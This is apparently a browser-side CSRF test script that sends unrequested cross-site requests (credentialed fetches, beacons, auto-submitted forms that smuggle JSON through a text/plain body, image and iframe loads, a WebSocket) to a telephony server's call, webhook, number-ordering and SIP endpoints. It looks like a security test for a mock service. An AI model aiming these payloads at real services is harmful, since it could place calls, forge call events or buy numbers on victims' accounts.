/** Runs in the browser: what a browser sends for a page without asking the user. */
/* global document, fetch, navigator, window, Blob, Image, URLSearchParams, WebSocket */
window.attack = ({ tandem, platform, userPath }) => {
  const at = (base, path, name) => `${base}${path}${path.includes('?') ? '&' : '?'}attack=${name}`;
  const call = (name) => ({ to: '+15552223333', from: '+1555444333', sentence: name });
  const event = (name) => ({
    eventType: 'incomingcall',
    callId: `c-${name}`,
    from: 'sip:jsmith_mobile@xyz-corp-testing.bwapp.bwsip.io',
    to: '+15552223333',
  });
  const dial = { from: '+15551112222', to: '+1555444333', pad: '' };

  const post = (name, url, body, more = {}) => {
    const init = { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify(body) };
    void fetch(at('', url, name), { ...init, ...more }).catch(() => undefined);
  };
  const beacon = (name, url, body) => {
    navigator.sendBeacon(at('', url, name), new Blob([JSON.stringify(body)], { type: 'text/plain' }));
  };
  /** A form of text/plain sends `name=value`: JSON, where the name ends within a string and the value closes it. */
  const form = (name, url, body, target = '') => {
    const element = document.createElement('form');
    Object.assign(element, { method: 'POST', action: at('', url, name), enctype: 'text/plain', target });
    const input = document.createElement('input');
    input.name = JSON.stringify(body).replace(/"}$/, '');
    input.value = '"}';
    element.append(input);
    document.body.append(element);
    element.submit();
  };
  const frame = (name) => {
    const element = document.createElement('iframe');
    element.name = name;
    document.body.append(element);
    return name;
  };

  post('fetch-text', `${tandem}/calls`, call('fetch-text'));
  post('fetch-event', `${tandem}/webhooks/voice`, event('fetch-event'));
  post('fetch-json', `${tandem}/calls`, call('fetch-json'), {
    mode: 'cors',
    headers: { 'content-type': 'application/json' },
  });
  void fetch(at(tandem, '/calls/f-any', 'fetch-delete'), { method: 'DELETE' }).catch(() => undefined);
  beacon('beacon-call', `${tandem}/calls`, call('beacon-call'));
  beacon('beacon-event', `${tandem}/webhooks/voice`, event('beacon-event'));
  form('form-call', `${tandem}/calls`, call('form-call'), frame('f1'));
  form('form-event', `${tandem}/webhooks/voice`, event('form-event'), frame('f2'));
  const query = (name) => new URLSearchParams({ ...event(name), attack: name }).toString();
  new Image().src = `${tandem}/webhooks/voice?${query('image-event')}`;
  const inner = document.createElement('iframe');
  inner.src = `${tandem}/webhooks/voice?${query('frame-event')}`;
  document.body.append(inner);

  post('sandbox-fetch', `${platform}/sandbox/calls`, dial);
  beacon('sandbox-beacon', `${platform}/sandbox/calls`, dial);
  form('sandbox-form', `${platform}/sandbox/calls`, dial, frame('f3'));
  post('v1-fetch', `${platform}${userPath}/calls`, { from: '+1555444333', to: '+15552223333' });
  post('v1-order', `${platform}/v1/availableNumbers/local?areaCode=910&quantity=1`, {});
  new WebSocket(at(platform.replace('http', 'ws'), '/sip', 'websocket'), 'sip');
  window.leave = () => form('sandbox-top-form', `${platform}/sandbox/calls`, dial);
};
